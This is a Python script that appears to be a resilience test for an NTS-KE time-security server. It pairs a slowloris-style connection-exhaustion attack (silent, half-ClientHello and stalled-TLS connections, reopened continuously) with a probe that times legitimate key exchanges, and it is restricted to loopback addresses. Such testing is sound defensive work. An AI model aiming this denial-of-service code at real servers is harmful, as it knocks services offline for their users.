#!/usr/bin/env python3
"""The NTS-KE attacker and the well-behaved client of ntske-attack.sh (issue #18). Loopback only.

attack: N connections from A source addresses (127.0.1.1 ...) that never finish an exchange, a third
each: silent after connect, half a ClientHello then silent, the TLS handshake then silent. Each one
that the server closes is opened again (after 0.5 s when it was refused: closed within 0.5 s, or
its TLS handshake failed), for DURATION seconds: a persistent slowloris. Prints a JSON summary.

probe: COUNT NTS-KE exchanges from SOURCE, one every INTERVAL seconds, each a new TCP and TLS 1.3
connection (ALPN ntske/1, the certificate checked against CA), NTPv4 and AEAD 15 asked for, the
answer read to its End of Message; the time of each from connect to End of Message. Prints JSON.
"""
import argparse, asyncio, ipaddress, json, socket, ssl, struct, sys, time


def context(ca, name):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.minimum_version = ssl.TLSVersion.TLSv1_3
    ctx.set_alpn_protocols(["ntske/1"])
    ctx.load_verify_locations(ca)
    return ctx


def loopback(host):
    if not ipaddress.ip_address(host).is_loopback:
        sys.exit(f"ntske-attack.py: {host} is not a loopback address")
    return host


def client_hello(ctx, name):
    """A real ClientHello from this client, to send half of."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = ctx.wrap_bio(incoming, outgoing, server_hostname=name)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


async def attack(args):
    host, port = args.target.rsplit(":", 1)
    host, port = loopback(host), int(port)
    ctx = context(args.ca, args.name)
    hello = client_hello(ctx, args.name)
    end = time.monotonic() + args.duration
    kinds = ("silent", "half_client_hello", "handshake_then_silent")
    stats = {k: {"opened": 0, "refused": 0, "held": 0, "held_seconds": 0.0} for k in kinds}
    open_now = {"n": 0, "max": 0}

    async def one(i):
        kind, source = kinds[i % 3], f"127.0.1.{1 + i % args.addresses}"
        s = stats[kind]
        while time.monotonic() < end:
            start = time.monotonic()
            writer = None
            held = False
            try:
                reader, writer = await asyncio.wait_for(asyncio.open_connection(
                    host, port, local_addr=(source, 0),
                    ssl=ctx if kind == "handshake_then_silent" else None,
                    server_hostname=args.name if kind == "handshake_then_silent" else None), timeout=10)
                s["opened"] += 1
                if kind == "half_client_hello":
                    writer.write(hello[: len(hello) // 2])
                    await writer.drain()
                open_now["n"] += 1
                open_now["max"] = max(open_now["max"], open_now["n"])
                held = True
                # Nothing more is sent: wait for the server to close (or for the end of the attack).
                await asyncio.wait_for(reader.read(1), timeout=max(0.1, end - time.monotonic()))
            except (OSError, ssl.SSLError, asyncio.IncompleteReadError, asyncio.TimeoutError, ConnectionError):
                pass
            finally:
                if held:
                    open_now["n"] -= 1
                if writer is not None:
                    writer.transport.abort()
            lasted = time.monotonic() - start
            if not held or lasted < 0.5:
                s["refused"] += 1
                await asyncio.sleep(0.5)
            else:
                s["held"] += 1
                s["held_seconds"] += lasted

    started = time.monotonic()
    await asyncio.gather(*(one(i) for i in range(args.connections)))
    print(json.dumps({"connections": args.connections, "addresses": args.addresses, "seconds": time.monotonic() - started,
                      "max_open": open_now["max"], "kinds": stats}))


REQUEST = struct.pack(">HHH", 0x8001, 2, 0) + struct.pack(">HHH", 0x8004, 2, 15) + struct.pack(">HH", 0x8000, 0)


def exchange(host, port, source, ctx, name):
    """One key exchange; (seconds, cookies) or raises."""
    start = time.perf_counter()
    with socket.create_connection((host, port), timeout=10, source_address=(source, 0)) as raw:
        with ctx.wrap_socket(raw, server_hostname=name) as tls:
            if tls.selected_alpn_protocol() != "ntske/1":
                raise ssl.SSLError("no ntske/1")
            tls.sendall(REQUEST)
            data, cookies = b"", 0
            while True:
                chunk = tls.recv(4096)
                if not chunk:
                    raise ConnectionError("closed before End of Message")
                data += chunk
                while len(data) >= 4:
                    kind, length = struct.unpack(">HH", data[:4])
                    if len(data) < 4 + length:
                        break
                    body, data = data[4:4 + length], data[4 + length:]
                    kind &= 0x7FFF
                    if kind == 2:
                        raise ConnectionError(f"Error record {body.hex()}")
                    if kind == 5:
                        cookies += 1
                    if kind == 0:
                        return time.perf_counter() - start, cookies


def probe(args):
    host, port = args.target.rsplit(":", 1)
    host, port = loopback(host), int(port)
    ctx = context(args.ca, args.name)
    times, failures = [], []
    for i in range(args.count):
        at = time.monotonic()
        try:
            seconds, cookies = exchange(host, port, loopback(args.source), ctx, args.name)
            if cookies != 8:
                failures.append(f"{cookies} cookies")
            else:
                times.append(seconds * 1000)
        except (OSError, ssl.SSLError, ConnectionError) as e:
            failures.append(str(e))
        time.sleep(max(0.0, args.interval - (time.monotonic() - at)))
    print(json.dumps({"times_ms": times, "failures": failures}))


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = p.add_subparsers(dest="command", required=True)
    for name in ("attack", "probe"):
        c = sub.add_parser(name)
        c.add_argument("--target", required=True, help="NTS-KE address:port (loopback)")
        c.add_argument("--ca", required=True, help="PEM certificate to trust")
        c.add_argument("--name", default="ntp.test", help="name the certificate carries")
    a = sub.choices["attack"]
    a.add_argument("--connections", type=int, default=1000)
    a.add_argument("--addresses", type=int, default=8)
    a.add_argument("--duration", type=float, default=30)
    b = sub.choices["probe"]
    b.add_argument("--source", default="127.0.0.200")
    b.add_argument("--count", type=int, default=25)
    b.add_argument("--interval", type=float, default=1.0)
    args = p.parse_args()
    if args.command == "attack":
        asyncio.run(attack(args))
    else:
        probe(args)


if __name__ == "__main__":
    main()
